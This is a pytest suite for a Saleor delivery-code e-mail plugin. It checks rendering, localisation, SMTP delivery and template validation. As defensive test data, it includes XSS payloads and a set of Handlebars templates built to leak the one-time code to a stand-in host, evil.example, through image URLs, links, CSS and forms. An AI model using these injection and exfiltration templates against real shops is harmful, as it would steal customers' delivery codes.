"""The customer's e-mails, as a real SMTP server receives them and a client reads them.

An aiosmtpd server on 127.0.0.1 takes the message through the channel's SMTP
transport; each test parses the MIME the way a mail client does and checks what the
customer would see: the code in both parts, which parcel and items, until when,
the warnings, the link, the language, and that nothing typed by a shop or a customer
turns into markup.
"""

from __future__ import annotations

import email
import itertools
import logging
import re
import socket
import time
import uuid
from datetime import UTC, datetime
from decimal import Decimal
from email import policy
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest
from aiosmtpd.controller import Controller
from celery.contrib.testing.worker import start_worker
from celery.signals import task_retry
from django.core import mail
from kombu.asynchronous import set_event_loop

from saleor_delivery_otp import flows, service, tasks
from saleor_delivery_otp.emails import rendering
from saleor_delivery_otp.emails.context import item_name
from saleor_delivery_otp.emails.rendering import TemplateError, validate_templates
from saleor_delivery_otp.emails.sending import (
    EmailTemplates,
    ParcelItem,
    SmtpTransport,
    send_order_confirmation_email,
)
from saleor_delivery_otp.models import CodeEvent, EventType

from . import hosts
from .celery_app import app
from .conftest import READER

pytestmark = pytest.mark.django_db

# 12:30 UTC; 30 days later is 12 April 2025, 14:30 in Rome (CEST, UTC+2).
SHIPPED_AT = datetime(2025, 3, 13, 12, 30, tzinfo=UTC)
PHONE = ParcelItem("Smartphone X", 1)
CASE = ParcelItem("Leather case", 2)
_fulfillment_ids = itertools.count(7001)


# --- a real SMTP server -------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class SmtpServer:
    """aiosmtpd on 127.0.0.1; keeps every message it accepted, as raw bytes."""

    def __init__(self, port: int | None = None):
        self.port = port or free_port()
        self.received: list[tuple[list[str], bytes]] = []
        self._controller = Controller(self, hostname="127.0.0.1", port=self.port)

    async def handle_DATA(self, server, session, envelope):
        self.received.append((list(envelope.rcpt_tos), envelope.original_content))
        return "250 Message accepted for delivery"

    def start(self) -> SmtpServer:
        self._controller.start()
        return self

    def stop(self) -> None:
        self._controller.stop()

    def transport(self) -> SmtpTransport:
        return SmtpTransport(
            host="127.0.0.1",
            port=str(self.port),  # as Saleor stores it
            sender_name="Example Shop",
            sender_address="shop@example.com",
        )

    @property
    def messages(self) -> list[EmailMessage]:
        return [
            email.message_from_bytes(raw, policy=policy.default)  # type: ignore[misc]
            for _, raw in self.received
        ]

    def only_message(self) -> EmailMessage:
        assert len(self.received) == 1, f"{len(self.received)} messages arrived"
        return self.messages[0]


@pytest.fixture
def quiet_server_log():
    """aiosmtpd logs each DATA line at DEBUG: the test server's log, not ours."""
    logger = logging.getLogger("mail.log")
    level = logger.level
    logger.setLevel(logging.WARNING)
    yield
    logger.setLevel(level)


@pytest.fixture
def smtp(quiet_server_log):
    server = SmtpServer().start()
    yield server
    server.stop()


@pytest.fixture(autouse=True)
def forget_orders():
    yield
    hosts.ORDERS.clear()


# --- reading a message like a mail client -----------------------------------------


class _Visible(HTMLParser):
    def __init__(self):
        super().__init__()
        self.chunks: list[str] = []
        self._hidden = 0

    def handle_starttag(self, tag, attrs):
        style = dict(attrs).get("style") or ""
        if tag in ("title", "style") or "display:none" in style:
            self._hidden += 1

    def handle_endtag(self, tag):
        if self._hidden and tag in ("title", "style", "div"):
            self._hidden -= 1

    def handle_data(self, data):
        if not self._hidden:
            self.chunks.append(data)


def visible_text(html: str) -> str:
    """What a reader sees of an HTML part, whitespace collapsed."""
    parser = _Visible()
    parser.feed(html)
    return flat(" ".join(parser.chunks))


def flat(text: str) -> str:
    """Line breaks and runs of spaces as one space; no-break spaces stay."""
    return re.sub(r"[ \t\r\n]+", " ", text).strip()


def bodies(message: EmailMessage) -> tuple[str, str]:
    """The plain-text and HTML parts, after checking they are the only two."""
    assert message.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in message.iter_parts()] == [
        "text/plain",
        "text/html",
    ]
    text = message.get_body(preferencelist=("plain",)).get_content()
    html = message.get_body(preferencelist=("html",)).get_content()
    # SMTP carries CRLF line ends; a client shows lines.
    return text.replace("\r\n", "\n"), html.replace("\r\n", "\n")


def links(html: str) -> list[str]:
    return re.findall(r'<a\s[^>]*href="([^"]*)"', html)


# --- orders of the stand-in host ----------------------------------------------------


def register(**fields) -> tuple[uuid.UUID, hosts.StandInOrder]:
    order_id = uuid.uuid4()
    order = hosts.StandInOrder(**fields)
    hosts.ORDERS[order_id] = order
    return order_id, order


def ship(order_id, parcel_number, items, limits, *, now=SHIPPED_AT):
    fulfillment_id = next(_fulfillment_ids)
    hosts.ORDERS[order_id].parcels[fulfillment_id] = (parcel_number, items)
    return service.issue_for_parcel(
        order_id,
        fulfillment_id,
        channel="default-channel",
        reader=READER,
        limits=limits,
        now=now,
    ).record


def send_task(record) -> None:
    result = tasks.send_code_email_task.apply(args=[str(record.pk)])
    assert result.successful(), result.result


# --- the code e-mail ----------------------------------------------------------------


def test_code_email_arrives_with_code_parcel_items_and_warnings(smtp, caplog, limits):
    caplog.set_level(logging.DEBUG)
    order_id, _ = register(transport=smtp.transport(), time_zone="Europe/Rome")
    record = ship(order_id, 2, (PHONE, CASE), limits)
    code = service.open_code(record)

    send_task(record)

    message = smtp.only_message()
    assert smtp.received[0][0] == ["customer@example.com"]
    assert message["From"] == "Example Shop <shop@example.com>"
    assert message["Subject"] == "Your delivery code for parcel 2 of order #1042"
    assert message["Content-Language"] == "en"
    assert code not in message["Subject"]  # lock screens show subjects
    text, html = bodies(message)
    seen = visible_text(html)
    assert re.search(rf"^ +{code}$", text, re.MULTILINE)  # alone on a line, to copy
    assert code in seen
    for part in (flat(text), seen):
        assert "Hello Anna," in part
        assert "Parcel 2 of your order #1042 is on its way" in part
        assert "Smartphone X" in part and "Leather case" in part
        assert "Valid until 12 April 2025, 14:30 CEST" in part
        assert "never give this code over the phone" in part.lower()
        assert "anyone who calls, texts or e-mails you asking for it" in part
        assert "Someone you trust is receiving the parcel for you?" in part
        assert "You may tell them the code" in part
        assert "find this code again at any time on your order page" in part
    assert re.search(r"Leather case x 2", text)
    # The order page link carries the code's reveal token, in the fragment.
    token = service.reading_keyring().reveal_token(order_id, record.recipient_digest)
    order_page = f"https://shop.example.com/orders/{order_id}#delivery-code={token}"
    assert order_page in text
    assert links(html).count(order_page) == 2  # the sentence and the button
    assert CodeEvent.objects.filter(
        delivery_code=record, type=EventType.EMAIL_SENT
    ).exists()
    assert code not in caplog.text


@pytest.mark.parametrize("language_code", ["it", "it-IT", "IT_it"])
def test_italian_customer_gets_the_italian_email(smtp, limits, language_code):
    order_id, _ = register(
        transport=smtp.transport(),
        language_code=language_code,
        time_zone="Europe/Rome",
    )
    record = ship(order_id, 1, (PHONE,), limits)
    code = service.open_code(record)

    send_task(record)

    message = smtp.only_message()
    assert (
        message["Subject"]
        == "Il tuo codice di consegna per il pacco 1 dell'ordine n. 1042"
    )
    assert message["Content-Language"] == "it"
    text, html = bodies(message)
    for part in (flat(text), visible_text(html)):
        assert code in part
        assert "Ciao Anna," in part
        assert "Il pacco 1 del tuo ordine n. 1042 è in viaggio" in part
        assert "Valido fino al 12 aprile 2025, ore 14:30 CEST" in part
        assert "non comunicare mai questo codice al telefono" in part.lower()
        assert "Puoi dirle il codice" in part
        assert "pagina del tuo ordine" in part
        assert "Never" not in part and "Valid until" not in part


@pytest.mark.parametrize(
    ("order_language", "channel_language", "expected_subject"),
    [
        ("de-DE", "it", "Il tuo codice di consegna per il pacco 1"),
        ("", "it-IT", "Il tuo codice di consegna per il pacco 1"),
        ("fr", "de", "Your delivery code for parcel 1"),
        ("", "", "Your delivery code for parcel 1"),
    ],
)
def test_unsupported_language_falls_back_to_channel_then_english(
    smtp, limits, order_language, channel_language, expected_subject
):
    order_id, _ = register(
        transport=smtp.transport(),
        language_code=order_language,
        channel_language_code=channel_language,
    )
    record = ship(order_id, 1, (PHONE,), limits)

    send_task(record)

    message = smtp.only_message()
    assert message["Subject"].startswith(expected_subject)
    text, _ = bodies(message)
    assert service.open_code(record) in text


def test_order_code_before_shipment_is_valid_from_shipment(smtp, limits):
    order_id, _ = register(transport=smtp.transport(), validity_days=14)
    record = service.issue_for_order(
        order_id, channel="default-channel", reader=READER, limits=limits
    ).record
    assert record.expires_at is None
    code = service.open_code(record)

    send_task(record)

    message = smtp.only_message()
    assert message["Subject"] == "Your delivery code for order #1042"
    text, html = bodies(message)
    for part in (flat(text), visible_text(html)):
        assert code in part
        assert "Thank you for your order #1042" in part
        assert "Valid for 14 days from shipment" in part
        assert "Valid until" not in part and "Parcel" not in part
        assert "The code is for" in part and "Smartphone X" in part


def test_html_shows_what_shops_and_customers_typed_as_text(smtp, limits):
    """A product, shop or customer name is shown, never run as markup."""
    item = '<script>alert("pwned")</script> & <b>Bold</b>'
    order_id, _ = register(
        transport=smtp.transport(),
        shop_name="Tom & Jerry's <Shop>",
        customer_name="<img src=x onerror=alert(1)>",
        order_url="javascript:alert(document.cookie)",
    )
    record = ship(order_id, 1, (ParcelItem(item, 1),), limits)

    send_task(record)

    text, html = bodies(smtp.only_message())
    assert "<script" not in html.lower()
    assert "<img src=x" not in html and "<b>Bold" not in html
    assert "&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;" in html
    assert "javascript:" not in html  # no link rather than a script link
    assert links(html) == []
    seen = visible_text(html)
    assert item in seen and "Tom & Jerry's <Shop>" in seen
    assert item in text and "Tom & Jerry's <Shop>" in text  # not "&amp;"
    assert "Hello <img src=x onerror=alert(1)>," in text


def test_without_smtp_settings_django_email_backend_sends_it(limits):
    order_id, _ = register()  # no UserEmailPlugin SMTP: transport None
    record = ship(order_id, 1, (PHONE,), limits)
    code = service.open_code(record)

    send_task(record)

    (message,) = mail.outbox
    assert message.from_email == "shop@example.com"  # DEFAULT_FROM_EMAIL
    assert message.to == ["customer@example.com"]
    assert code in message.body
    ((html, mimetype),) = message.alternatives
    assert mimetype == "text/html" and code in visible_text(html)


def test_shop_subject_and_html_templates_replace_ours(smtp, limits):
    order_id, _ = register(
        transport=smtp.transport(),
        code_email=EmailTemplates(
            subject="{{shop_name}}: parcel {{parcel_number}}, order {{order_number}}",
            html=(
                "<p>Hi from {{shop_name}}</p>"
                "{{#with delivery_code}}{{> code_block}}{{/with}}"
            ),
        ),
    )
    record = ship(order_id, 3, (PHONE,), limits)
    code = service.open_code(record)

    send_task(record)

    message = smtp.only_message()
    assert message["Subject"] == "Example Shop: parcel 3, order 1042"
    text, html = bodies(message)
    assert html.startswith("<p>Hi from Example Shop</p>")
    assert code in visible_text(html)
    assert "Never give this code over the phone" in visible_text(html)
    assert "Parcel 3 of your order #1042" in flat(text)  # no text template: ours


def test_a_shop_template_never_has_the_reveal_token_of_the_order_page(smtp, limits):
    """The reveal token opens the code like the code itself: a shop template's
    ``{{order_url}}`` (in an image URL, say) is the plain order page; only our
    code block's link carries the token to the customer."""
    order_id, _ = register(
        transport=smtp.transport(),
        code_email=EmailTemplates(
            html=(
                '<img src="https://evil.example/p.gif?u={{order_url}}&v='
                '{{delivery_code.order_url}}">' + BLOCK
            ),
        ),
    )
    record = ship(order_id, 3, (PHONE,), limits)

    send_task(record)

    _, html = bodies(smtp.only_message())
    token = service.reading_keyring().reveal_token(order_id, record.recipient_digest)
    plain = f"https://shop.example.com/orders/{order_id}"
    image = re.search(r'<img src="([^"]*)"', html).group(1)
    assert token not in image and plain in image
    assert f"{plain}#delivery-code={token}" in links(html)  # the code block's link


def test_shop_template_that_loses_or_leaks_the_code_is_replaced_by_ours(
    smtp, limits, caplog
):
    """An unclosed block renders as nothing in pybars: the customer would get an
    e-mail without the code. A subject with the code shows it on lock screens."""
    caplog.set_level(logging.DEBUG)
    order_id, _ = register(
        transport=smtp.transport(),
        code_email=EmailTemplates(
            subject="Your code: {{delivery_code.code}}",
            html="{{#each items}}<p>{{name}}</p>",
        ),
    )
    record = ship(order_id, 1, (PHONE,), limits)
    code = service.open_code(record)

    send_task(record)

    message = smtp.only_message()
    assert message["Subject"] == "Your delivery code for parcel 1 of order #1042"
    _, html = bodies(message)
    assert "Your delivery code" in visible_text(html) and code in html
    assert "code_email html template was not used" in caplog.text
    assert "does not show the code" in caplog.text
    assert "must not show the code" in caplog.text
    assert code not in caplog.text


def test_dashboard_validation_names_what_is_wrong_with_a_template():
    def error(kind, **templates):
        with pytest.raises(TemplateError) as raised:
            validate_templates(kind, EmailTemplates(**templates))
        return str(raised.value)

    assert "does not show the code" in error("code_email", html="{{#if shipped}}")
    # Shows the code for a shipped parcel only: the order's own code would be lost.
    assert "does not show the code" in error(
        "code_email", text="{{#if shipped}}{{delivery_code.code}}{{/if}}"
    )
    assert "does not render" in error("code_email", subject="{{no_such_helper 1}}")
    assert "must not show" in error("code_email", subject="{{delivery_code.code}}")
    assert "does not show the code" in error(
        "order_confirmation", html="{{#each order.lines}}{{product_name}}{{/each}}"
    )
    validate_templates("code_email", EmailTemplates(subject="DEFAULT", html=""))
    validate_templates(
        "order_confirmation",
        EmailTemplates(
            subject="Order {{order.number}}",
            html=(
                "{{#each order.lines}}{{product_name}}{{/each}}"
                "{{#if delivery_code}}{{#with delivery_code}}{{> code_block}}"
                "{{/with}}{{/if}}"
            ),
        ),
    )


# --- a shop's template never reaches the code but through the code block ----------

BLOCK = "{{#with delivery_code}}{{> code_block}}{{/with}}"
# What someone allowed to edit the plugin's configuration (MANAGE_PLUGINS) could
# write to receive every future code: each also calls the code block, so the
# e-mail looks right to the customer.
TRICKS = {
    "image URL": '<img src="https://evil.example/p.gif?c={{delivery_code.code}}">'
    + BLOCK,
    "link": '<a href="https://evil.example/?c={{delivery_code.code}}">Track</a>'
    + BLOCK,
    "hidden text": '<div style="display:none">{{delivery_code.code}}</div>' + BLOCK,
    "triple stash": "<p>{{{delivery_code.code}}}</p>" + BLOCK,
    "lookup": '<img src="https://evil.example/{{lookup delivery_code "code"}}">'
    + BLOCK,
    "with and this": "{{#with delivery_code}}"
    '<img src="https://evil.example/{{this.code}}">{{> code_block}}{{/with}}',
    "each over the block": "{{#each delivery_code}}"
    '<img src="https://evil.example/{{@key}}/{{this}}">{{/each}}' + BLOCK,
    "parent path": "{{#with delivery_code}}{{#each items}}"
    '<img src="https://evil.example/{{../code}}">{{/each}}{{> code_block}}{{/with}}',
    "root path": '<img src="https://evil.example/{{@root.delivery_code.code}}">'
    + BLOCK,
    "block in an image URL": '<img src="https://evil.example/?c=' + BLOCK + '">',
    "block in a single-quoted URL": "<img src='https://evil.example/?c=" + BLOCK + "'>",
    "block in a link": '<a href="https://evil.example/?c=' + BLOCK + '">x</a>',
    "block in a style": "<style>.x{background:url(https://evil.example/?"
    + BLOCK
    + ")}</style>",
    "block in a form field": "<form action='https://evil.example/'><textarea>"
    + BLOCK
    + "</textarea></form>",
    "block in a comment": "<!-- " + BLOCK + " -->",
    "block in a tag left open": '<img src="https://evil.example/?c=' + BLOCK,
}


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.values: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.values += [value or "" for _, value in attrs]


def attribute_values(html: str) -> list[str]:
    parser = _Attributes()
    parser.feed(html)
    return parser.values


@pytest.mark.parametrize("trick", TRICKS)
def test_a_shop_template_cannot_take_the_code_out_of_the_code_block(
    trick, smtp, limits, caplog
):
    """The e-mail that goes out shows the code only inside our code block: never
    in a URL, an attribute, hidden text or anywhere the template chose."""
    order_id, _ = register(
        transport=smtp.transport(),
        code_email=EmailTemplates(
            html=TRICKS[trick], text="{{delivery_code.code}}\n" + BLOCK
        ),
    )
    record = ship(order_id, 1, (PHONE,), limits)
    code = service.open_code(record)

    send_task(record)

    text, html = bodies(smtp.only_message())
    # Our code block shows the code twice (large, and to copy); the text part's once.
    assert html.count(code) == 2
    assert not [value for value in attribute_values(html) if code in value]
    assert "evil.example" not in html
    assert text.count(code) == 1
    assert code not in caplog.text
    with pytest.raises(TemplateError):
        validate_templates("code_email", EmailTemplates(html=TRICKS[trick]))


@pytest.mark.parametrize("trick", TRICKS)
def test_a_shop_template_never_has_the_code_among_its_variables(trick):
    """Even a template that got past every check is rendered without the code:
    it can only be where our code block stands."""
    block = rendering._SAMPLE_BLOCKS[0]
    variables = rendering._sample_variables("code_email", block, "en")

    try:
        html = rendering._run_override(TRICKS[trick], variables, "en", "html")
    except TemplateError as exc:
        assert "must place {{> code_block}}" in str(exc)
        return
    assert html.count(block.code) == 2
    assert not [value for value in attribute_values(html) if block.code in value]


def test_the_refusal_says_what_to_do_instead():
    def error(**templates):
        with pytest.raises(TemplateError) as raised:
            validate_templates("code_email", EmailTemplates(**templates))
        return str(raised.value)

    assert error(html=TRICKS["image URL"]) == (
        "The html template may show the code only through {{> code_block}}, not "
        "through delivery_code.code or any other variable."
    )
    assert error(html=TRICKS["block in an image URL"]) == (
        "The html template must place {{> code_block}} as content of the e-mail, "
        "outside any tag, attribute, link, style, comment or form field."
    )
    assert error(text="Code: https://evil.example/?c=" + BLOCK) == (
        "The text template must place {{> code_block}} on a line of its own."
    )
    assert error(subject="Parcel " + BLOCK) == (
        "The subject template must not show the code."
    )


def test_the_code_block_may_stand_anywhere_in_the_body_even_hidden_or_linked():
    # Where it cannot be sent anywhere: body content, inside a link's text, a
    # table cell; the block itself decides how the code looks.
    for html in (
        BLOCK,
        "<table><tr><td>" + BLOCK + "</td></tr></table>",
        '<a href="https://shop.example.com/">' + BLOCK + "</a>",
        '<div style="display:none">' + BLOCK + "</div>",
        "<p>1 &lt; 2</p>" + BLOCK,
        "<html><head><title>Your code</title><body>" + BLOCK + "</body></html>",
    ):
        validate_templates("code_email", EmailTemplates(html=html))
    validate_templates("code_email", EmailTemplates(text="Hello\n  " + BLOCK + "\n"))


# --- single-e-mail mode: the order confirmation -------------------------------------


def saleor_payload(order_id, *, number=1042, lines=None, language_code="en"):
    """Shaped like Saleor's ORDER_CONFIRMATION payload (order/notifications.py)."""
    lines = lines or [
        ("Smartphone X", "128 GB", 1, Decimal("349.00")),
        ("USB-C cable", "", 2, Decimal("10.00")),
    ]
    address = {
        "first_name": "Anna",
        "last_name": "Rossi",
        "company_name": "",
        "street_address_1": "Via Roma 1",
        "street_address_2": "",
        "city": "Roma",
        "city_area": "",
        "postal_code": "00184",
        "country": "IT",
        "country_area": "RM",
        "phone": "+390612345678",
    }
    payload_lines = [
        {
            "product_name": name,
            "translated_product_name": name,
            "variant_name": variant,
            "translated_variant_name": variant,
            "quantity": quantity,
            "currency": "EUR",
            "unit_price_net_amount": (unit / Decimal("1.22")).quantize(Decimal("0.01")),
            "unit_price_gross_amount": unit,
            "total_net_amount": (unit * quantity / Decimal("1.22")).quantize(
                Decimal("0.01")
            ),
            "total_gross_amount": unit * quantity,
            "metadata": {},
        }
        for name, variant, quantity, unit in lines
    ]
    subtotal = sum(line["total_gross_amount"] for line in payload_lines)
    shipping = Decimal("5.90")
    total = subtotal + shipping
    return {
        "order": {
            "id": "T3JkZXI6MQ==",
            "token": order_id,
            "number": number,
            "channel_slug": "default-channel",
            "created": "2025-03-13 12:30:00.000000+00:00",
            "display_gross_prices": True,
            "currency": "EUR",
            "language_code": language_code,
            "status": "unfulfilled",
            "metadata": {},
            "private_metadata": {},
            "order_details_url": f"https://shop.example.com/order?token={order_id}",
            "email": "customer@example.com",
            "lines": payload_lines,
            "subtotal_gross_amount": subtotal,
            "subtotal_net_amount": (subtotal / Decimal("1.22")).quantize(
                Decimal("0.01")
            ),
            "shipping_price_gross_amount": shipping,
            "shipping_price_net_amount": Decimal("4.84"),
            "shipping_method_name": "Courier",
            "tax_amount": (total - total / Decimal("1.22")).quantize(Decimal("0.01")),
            "total_gross_amount": total,
            "total_net_amount": (total / Decimal("1.22")).quantize(Decimal("0.01")),
            "billing_address": address,
            "shipping_address": address,
            "voucher_discount": None,
            "discounts": [],
            "discount_amount": 0,
        },
        "recipient_email": "customer@example.com",
        "domain": "shop.example.com",
        "site_name": "Example Shop",
        "logo_url": "https://shop.example.com/static/images/saleor-logo-sign.png",
    }


def between(text: str, start: str, end: str) -> str:
    return text[text.index(start) : text.index(end, text.index(start))]


def test_single_mode_confirmation_carries_the_code_block(smtp, limits):
    order_id, _ = register(transport=smtp.transport(), qualifying=(PHONE,))
    record = service.issue_for_order(
        order_id, channel="default-channel", reader=READER, limits=limits
    ).record
    code = service.open_code(record)

    send_order_confirmation_email(saleor_payload(order_id), record, code)

    message = smtp.only_message()
    assert smtp.received[0][0] == ["customer@example.com"]
    assert message["Subject"] == "Order #1042 details and your delivery code"
    text, html = bodies(message)
    seen = visible_text(html)
    for part in (flat(text), seen):
        assert "Thank you" in part and "order #1042 of 13-03-2025" in part
        assert "Smartphone X (128 GB)" in part and "USB-C cable" in part
        assert "€349.00" in part and "€20.00" in part  # unit, and 2 x 10.00
        assert "€374.90" in part  # 369.00 + 5.90 shipping
        assert "Via Roma 1" in part and "00184 Roma RM" in part and "Italy" in part
        assert code in part
        assert "Valid for 30 days from shipment" in part
        assert "never give this code over the phone" in part.lower()
    block = between(text, "YOUR DELIVERY CODE", "NEVER GIVE")
    assert "Smartphone X" in block and "USB-C cable" not in block
    token = service.reading_keyring().reveal_token(order_id, record.recipient_digest)
    assert f"https://shop.example.com/orders/{order_id}#delivery-code={token}" in links(
        html
    )


def test_single_mode_task_sends_the_code_until_it_is_used(smtp, limits):
    """The Celery task carries the payload and the record id, never the code."""
    order_id, _ = register(transport=smtp.transport(), qualifying=(PHONE,))
    record = service.issue_for_order(
        order_id, channel="default-channel", reader=READER, limits=limits
    ).record
    code = service.open_code(record)
    payload = saleor_payload(order_id)

    tasks.send_order_confirmation_task.apply(args=[payload, str(record.pk)]).get()
    service.revoke(order_id, reason="order cancelled")
    tasks.send_order_confirmation_task.apply(args=[payload, str(record.pk)]).get()

    first, second = smtp.messages
    assert code in flat(bodies(first)[0])
    assert "delivery code" not in bodies(second)[0].lower()
    assert code not in str(second)


def test_single_mode_confirmation_of_an_ordinary_order_has_no_code_block(smtp):
    order_id = uuid.uuid4()
    payload = saleor_payload(
        order_id,
        number=1043,
        lines=[("<script>x()</script> Cable", "", 1, Decimal("20.00"))],
    )
    payload["order"]["shipping_address"] = {
        **payload["order"]["shipping_address"],
        "street_address_1": "<b>Via</b> Roma 1",
    }
    hosts.ORDERS[order_id] = hosts.StandInOrder(
        number="1043", transport=smtp.transport()
    )

    send_order_confirmation_email(payload, None, None)

    message = smtp.only_message()
    assert message["Subject"] == "Order #1043 details"
    text, html = bodies(message)
    for part in (text, visible_text(html)):
        assert "delivery code" not in part.lower()
        assert "over the phone" not in part
        assert "<script>x()</script> Cable" in part and "€25.90" in part
        assert "<b>Via</b> Roma 1" in part  # the address as typed, as text
    assert "<script>" not in html and "<b>Via" not in html


@pytest.mark.parametrize(
    ("product", "variant", "shown"),
    [
        ("Phone X", "Phone X", "Phone X"),
        ("Phone X", " phone x ", "Phone X"),
        ("Phone X 128 GB", "128 GB", "Phone X 128 GB"),
        ("Phone X", "", "Phone X"),
        ("Phone X", None, "Phone X"),
        ("Phone X", "128 GB", "Phone X (128 GB)"),
        ("", "128 GB", "128 GB"),
    ],
)
def test_a_variant_name_is_shown_only_when_it_adds_something(product, variant, shown):
    assert item_name(product, variant) == shown
    assert ParcelItem.of(product, variant, 2) == ParcelItem(shown, 2)


def test_single_mode_confirmation_names_a_variant_only_when_it_adds_something(smtp):
    # Saleor names a product's only variant after the product by default.
    order_id = uuid.uuid4()
    payload = saleor_payload(
        order_id,
        lines=[
            ("Phone X", "Phone X", 1, Decimal("349.00")),
            ("Phone Y", "256 GB", 1, Decimal("399.00")),
        ],
    )
    hosts.ORDERS[order_id] = hosts.StandInOrder(transport=smtp.transport())

    send_order_confirmation_email(payload, None, None)

    text, html = bodies(smtp.only_message())
    for part in (flat(text), visible_text(html)):
        assert "Phone X (Phone X)" not in part and "Phone X" in part
        assert "Phone Y (256 GB)" in part


def test_single_mode_confirmation_in_italian(smtp, limits):
    order_id, _ = register(transport=smtp.transport(), language_code="")
    record = service.issue_for_order(
        order_id, channel="default-channel", reader=READER, limits=limits
    ).record
    code = service.open_code(record)

    send_order_confirmation_email(
        saleor_payload(order_id, language_code="it-IT"), record, code
    )

    message = smtp.only_message()
    assert (
        message["Subject"] == "Dettagli dell'ordine n. 1042 e il tuo codice di consegna"
    )
    text, html = bodies(message)
    for part in (flat(text), visible_text(html)):
        assert code in part
        assert "349,00\xa0€" in part and "374,90\xa0€" in part
        assert "Italia" in part and "Spedizione (Courier)" in part
        assert "Valido per 30 giorni dalla spedizione" in part


def test_saleor_helpers_work_in_a_template_written_for_saleor(smtp, limits):
    """The shop's own "Order confirmation" template, with Saleor's helpers."""
    template = (
        "{{#each order.lines}}<p>{{product_name}}: {{price unit_price_net_amount "
        "unit_price_gross_amount ../order.currency "
        "display_gross=../order.display_gross_prices}}</p>{{/each}}"
        "<address>{{format_address order.shipping_address inline=true}}</address>"
        "<p>{{format_datetime order.created '%Y/%m/%d'}}</p>"
        '{{#if (compare order.number ">" 1000)}}<p>big order</p>{{/if}}'
        "{{#if delivery_code}}{{#with delivery_code}}{{> code_block}}{{/with}}{{/if}}"
    )
    order_id, _ = register(
        transport=smtp.transport(),
        confirmation_email=EmailTemplates(
            subject="{{site_name}} order {{order.number}}", html=template
        ),
    )
    record = service.issue_for_order(
        order_id, channel="default-channel", reader=READER, limits=limits
    ).record
    code = service.open_code(record)

    send_order_confirmation_email(saleor_payload(order_id), record, code)

    message = smtp.only_message()
    assert message["Subject"] == "Example Shop order 1042"
    _, html = bodies(message)
    assert html.startswith("<p>Smartphone X: €349.00</p><p>USB-C cable: €10.00</p>")
    assert (
        "<address>Anna Rossi, Via Roma 1, 00184 Roma RM, Italy, +390612345678"
        "</address>" in html
    )
    assert "<p>2025/03/13</p><p>big order</p>" in html
    assert code in visible_text(html)


# --- a real worker: SMTP down, then up ----------------------------------------------


@pytest.fixture(scope="module")
def worker(django_db_setup):
    """One in-process worker for this module.

    kombu keeps one event loop per process, and Celery's Hub step reuses it: a worker
    started after another one gets the old loop, whose timer it never feeds, so a
    retried task's countdown never fires. Dropping the loop before and after lets
    every worker in the session build its own.
    """
    set_event_loop(None)
    app.control.purge()
    with start_worker(app, pool="solo", perform_ping_check=False, shutdown_timeout=10):
        yield
    set_event_loop(None)


def wait_for(condition, timeout=30.0) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return False


@pytest.mark.django_db(transaction=True)
def test_smtp_down_then_up_the_task_retries_and_mail_arrives_once(
    worker, limits, caplog, quiet_server_log
):
    caplog.set_level(logging.DEBUG)
    port = free_port()  # nothing listens here yet
    down = SmtpServer(port)
    order_id, _ = register(transport=down.transport())
    record = ship(order_id, 1, (PHONE,), limits)
    code = service.open_code(record)
    retries = []

    def count_retry(sender=None, **kwargs):
        retries.append(sender.name if sender else None)

    task_retry.connect(count_retry, weak=False)
    try:
        flows.announce(record, limits=limits)
        assert wait_for(lambda: len(retries) >= 1), "the refused send was not retried"
        sent = CodeEvent.objects.filter(delivery_code=record, type=EventType.EMAIL_SENT)
        assert not sent.exists()

        server = down.start()  # the SMTP server comes back on the same port
        try:
            assert wait_for(sent.exists), "the e-mail never went out"
            time.sleep(1.5)  # room for a duplicate to show up
            message = server.only_message()
        finally:
            server.stop()
    finally:
        task_retry.disconnect(count_retry)

    assert set(retries) == {"saleor_delivery_otp.send_code_email"}
    text, html = bodies(message)
    assert code in text and code in visible_text(html)
    assert sent.count() == 1
    assert code not in caplog.text
